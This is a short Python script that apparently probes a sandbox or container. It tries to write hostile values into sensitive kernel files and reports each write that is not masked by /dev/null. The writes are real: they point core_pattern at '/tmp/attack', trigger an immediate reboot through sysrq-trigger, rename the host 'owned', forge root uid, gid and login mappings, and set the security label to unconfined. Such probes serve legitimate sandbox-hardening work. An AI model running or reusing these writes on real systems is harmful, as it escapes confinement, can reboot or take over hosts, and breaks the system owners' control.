import os
import stat

tries = {
    "/proc/sys/kernel/core_pattern": "|/tmp/attack", "/proc/sys/kernel/hostname": "owned",
    "/proc/sys/vm/drop_caches": "1", "/proc/sys/vm/overcommit_memory": "1", "/proc/sys/net/ipv4/ip_forward": "1",
    "/proc/sysrq-trigger": "b", "/proc/self/uid_map": "0 0 1", "/proc/self/gid_map": "0 0 1",
    "/proc/self/setgroups": "allow", "/proc/self/oom_score_adj": "-1000", "/proc/self/timens_offsets": "monotonic 99 0",
    "/proc/self/loginuid": "0", "/proc/self/attr/current": "unconfined", "/sys/kernel/mm/ksm/run": "1",
    "/sys/fs/cgroup/cgroup.procs": "1", "/proc/self/clear_refs": "5",
}
for path, text in tries.items():
    try:
        with open(path, "w") as file:
            # What is covered by /dev/null takes everything, and nothing happens.
            covered = stat.S_ISCHR(os.fstat(file.fileno()).st_mode)
            file.write(text)
        if not covered:
            print("ACHIEVED wrote", path)
    except OSError:
        pass
